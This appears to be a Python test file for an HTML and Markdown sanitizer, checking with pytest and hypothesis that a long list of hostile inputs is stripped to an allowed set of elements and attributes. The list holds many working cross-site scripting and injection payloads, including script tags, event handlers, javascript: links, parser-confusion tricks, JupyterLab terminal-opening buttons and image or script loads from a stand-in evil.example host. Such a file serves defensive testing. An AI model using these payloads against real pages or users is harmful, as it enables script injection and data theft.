"""Hostile texts: none survives, neither as HTML nor as Markdown in a permissive renderer.

What comes out is read by a browser's parsing rules (html5lib), and every element, attribute and
address in it has to be on a list of its own, which is not the cleaner's.
"""

from __future__ import annotations

import re

import html5lib
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from kit.clean import clean_html, clean_markdown

ELEMENTS = {
    *("h1", "h2", "h3", "h4", "h5", "h6", "p", "blockquote", "hr", "br", "pre", "code", "span"),
    *("em", "strong", "s", "a", "ol", "ul", "li", "table", "thead", "tbody", "tr", "th", "td"),
}
ATTRIBUTES = {
    (
        "a",
        "href",
    ): r"https?://[a-z0-9\[][^\s\"'<>`\\@$]*|mailto:[\w.%+-]+@[\w.-]+(\?\S*)?|#[\w.%-]*",
    ("a", "rel"): r"noopener noreferrer",
    ("code", "class"): r"language-[\w+#.-]+",
    ("span", "class"): r"mathjax_ignore",
    ("ol", "start"): r"\d+",
    ("th", "align"): r"left|right|center",
    ("td", "align"): r"left|right|center",
    # how the renderer of the tests, not ours, aligns a column
    ("th", "style"): r"text-align:(left|right|center)",
    ("td", "style"): r"text-align:(left|right|center)",
}
CODE = r"(?ms)^( *)(`{3,}).*?^\1\2$|(`+)(?!`).+?(?<!`)\3(?!`)"
PERMISSIVE = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])

HOSTILE = [
    # scripts
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "</script><script>alert(1)</script>",
    "text\n\n<script>\nalert(1)\n\n</script>\n\ntext",
    "- item\n\n  <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "# <script>alert(1)</script>",
    # handlers
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>",
    '<a href="https://ok.example" onclick="alert(1)">x</a>',
    '<p style="animation-name:x" onanimationstart=alert(1)>x</p>',
    # elements that load, frame, send or style
    "<iframe src=https://evil.example></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=https://evil.example></object><embed src=https://evil.example>",
    "<form action=https://evil.example><input name=key><button>send</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<style>@import url(https://evil.example/x.css);</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<img srcset='https://evil.example/x.png 2x'>",
    "<video poster=https://evil.example/x.png></video>",
    "<div style='background:url(https://evil.example/x.png)'>x</div>",
    "<table background=https://evil.example/x.png><tr><td>x</table>",
    # command buttons of JupyterLab, ids that stand in for variables of a page
    "<button data-commandlinker-command='terminal:create-new'>x</button>",
    '<a data-commandlinker-command="runmenu:run-all" href="#">x</a>',
    "<form id=document><input name=cookie></form><img id=jupyter name=config>",
    # other languages inside HTML
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math href=javascript:alert(1)>x</math>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    # what one parser hides from another
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<xmp><img title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<!--><img src=x onerror=alert(1)>",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?php ><img src=x onerror=alert(1)> ?>",
    "<!DOCTYPE x [<!ENTITY y '<img src=x onerror=alert(1)>'>]>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<img src=x \x0conerror=alert(1)>",
    "<img src=x onerror\u2028=alert(1)>",
    "＜script＞alert(1)＜/script＞",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\\<script>alert(1)</script>",
    # links
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x]( javascript:alert(1) 'title')",
    "[x](java\tscript:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61;vascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](%6aavascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://ok.example/1)",
    "[x](//evil.example/x)",
    "[x](/api/contents?delete)",
    "[x](../../api/shutdown)",
    "[x](https://user:password@evil.example)",
    "[x](https:\\\\evil.example)",
    "[x](https://ok.example\\@evil.example)",
    '[x](https://ok.example" onmouseover="alert(1))',
    "[x](https://ok.example 'x\" onmouseover=\"alert(1)')",
    "[x](https://ok.example '$\" onmouseover=alert(1) x=\"$')",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[x]\n\n[x]: <data:text/html,<script>alert(1)</script>> 'title'",
    '[x][1]\n\n[1]:\n  JAVASCRIPT:alert(1)\n  "t"',
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "<vbscript:x>",
    "<https://ok.example/<script>alert(1)</script>>",
    'https://ok.example/$" onmouseover=alert(1) x="$',
    "https://ok.example/`<img src=x onerror=alert(1)>`",
    'www.ok.example/$" onmouseover=alert(1) x="$',
    'a@ok.example$" onmouseover=alert(1) x="$',
    "[<img src=x onerror=alert(1)>](https://ok.example)",
    "[[x](javascript:alert(1))](https://ok.example)",
    "![[x](javascript:alert(1))](https://ok.example)",
    # pictures
    "![x](https://evil.example/pixel.png?text=secret)",
    "![x](//evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](data:image/png;base64,AAAA)",
    '![x" onerror="alert(1)](https://evil.example/x.png)',
    "![<img src=x onerror=alert(1)>](https://evil.example/x.png)",
    "![x][p]\n\n[p]: https://evil.example/x.png 'x\" onerror=\"alert(1)'",
    "[![x](https://evil.example/x.png)](javascript:alert(1))",
    "!\\[x](https://evil.example/x.png)",
    "!<b></b>[x](https://evil.example/x.png)",
    # code and its edges
    '```html" onmouseover="alert(1)\nx\n```',
    "```<script>alert(1)</script>\nx\n```",
    '```x y="</code></pre><script>alert(1)</script>"\nx\n```',
    "```\n<script>alert(1)</script>\n```",
    "````\n```\n<script>alert(1)</script>\n```\n````",
    "```\n```~~~\n<script>alert(1)</script>\n",
    "~~~\n```\n<script>alert(1)</script>\n~~~",
    "    <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "*a ``<img src=x onerror=alert(1)>*``",
    "``a`<img src=x onerror=alert(1)>`b``",
    "`$` <b> `$<img src=x onerror=alert(1)>`",
    "> ```\n> $\n> ```\n> $x$ <img src=x onerror=alert(1)>\n>\n"
    "> ```\n> <img src=x onerror=alert(1)>",
    "| `a|<img src=x onerror=alert(1)>` |\n|---|\n| x\\`|`<script>alert(1)</script>` |",
    "`a\n\n<img src=x onerror=alert(1)>`",
    # formulas
    "$<img src=x onerror=alert(1)>$",
    "$$\n<img src=x onerror=alert(1)>\n$$",
    "$\\href{javascript:alert(1)}{x}$",
    "$$\\style{background:url(https://evil.example)}{x}$$",
    "$ ` $ <script>alert(1)</script> `",
    "$[x](javascript:alert(1))$",
    "\\(<script>alert(1)</script>\\)",
    "\\\\(<script>alert(1)</script>\\\\)",
    "\\begin{x}<script>alert(1)</script>\\end{x}",
    "@@0@@ $<script>$ <a href='@@0@@'>",
    "${$ `x` $y$ `<script>alert(1)</script>`",
    # what one sees is not what is there
    "[https://bank.example](https://evil.example/\u202egpj.exe)",
    "a\u202e<script>alert(1)</script>\u202c",
    "&#x202e;reversed &#8294;isolated",
    "$&#x202e;reversed$ $$&#8294;isolated$$",
    "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07",
    "\ud800<script>alert(1)</script>",
    "<b>",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "term\n: <script>alert(1)</script>",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= x %>",
]


def complaint(html: str) -> str | None:
    """What in `html` is on no list, as a browser would read it; None when all is."""
    tree = html5lib.parseFragment(html, treebuilder="etree", namespaceHTMLElements=False)
    for element in tree.iter():
        if element is tree:
            continue
        if not isinstance(element.tag, str):
            return "a comment"
        if element.tag not in ELEMENTS | {"del"}:
            return f"<{element.tag}>"
        for name, value in element.attrib.items():
            allowed = ATTRIBUTES.get((element.tag, name))
            if allowed is None or not re.fullmatch(allowed, value):
                return f"<{element.tag} {name}={value!r}>"
    hidden = re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]", html)
    return repr(hidden.group()) if hidden else None


def test_the_judge_sees_what_is_hostile() -> None:
    """Most of the table, rendered without cleaning, is complained about: the judge has teeth."""
    caught = [text for text in HOSTILE if complaint(PERMISSIVE.render(text))]
    assert len(caught) > len(HOSTILE) * 0.6


@pytest.mark.parametrize("text", HOSTILE)
def test_no_hostile_text_survives_as_html(text: str) -> None:
    assert complaint(clean_html(text)) is None


@pytest.mark.parametrize("text", HOSTILE)
def test_no_hostile_text_survives_as_markdown(text: str) -> None:
    """The Markdown is shown by a renderer that lets everything through.

    And no tag stands outside of code, where another renderer could find it: some look for
    formulas or for addresses first.
    """
    cleaned = clean_markdown(text)
    assert not re.search(r"<[A-Za-z/!?]", re.sub(CODE, "", cleaned))
    assert complaint(PERMISSIVE.render(cleaned)) is None
    assert complaint(clean_html(cleaned)) is None
    assert clean_markdown(cleaned) == cleaned


FRAGMENTS = [
    *HOSTILE,
    *(
        "`",
        "``",
        "```\n",
        "~~~\n",
        "\n",
        "\n\n",
        "  ",
        "    ",
        "\t",
        "> ",
        "- ",
        "1. ",
        "2) ",
        "* ",
    ),
    *("# ", "|", "| a | b |\n|---|---|\n", "$", "$$", "\\(", "\\)", "\\[", "\\]", "\\\\(", "\\"),
    *("\\begin{a}", "\\end{a}", "{", "}", "@@0@@", "*", "**", "_", "~~", "[", "]", "(", ")", "!["),
    *("[a](", "](https://x.example)", "[a]: https://x.example\n", '"', "'", "<", ">", "&", "&lt;"),
    *("https://x.example/", "http://", "www.", "a@b.example", "<br>", "===\n", "---\n", ":", "!"),
    *("word", "한국어", "1", "\r", "\u2028", "\u202e", "\x00", "\u00a0", "é", "😀"),
]


@settings(max_examples=250, deadline=None)
@given(st.lists(st.sampled_from(FRAGMENTS), max_size=14).map("".join))
def test_no_mixture_of_fragments_survives(text: str) -> None:
    cleaned = clean_markdown(text)
    assert complaint(clean_html(text)) is None
    assert complaint(PERMISSIVE.render(cleaned)) is None
    assert clean_markdown(cleaned) == cleaned


@settings(max_examples=150, deadline=None)
@given(st.text(max_size=200))
def test_no_text_at_all_survives_badly(text: str) -> None:
    cleaned = clean_markdown(text)
    assert complaint(clean_html(text)) is None
    assert complaint(PERMISSIVE.render(cleaned)) is None
    assert clean_markdown(cleaned) == cleaned
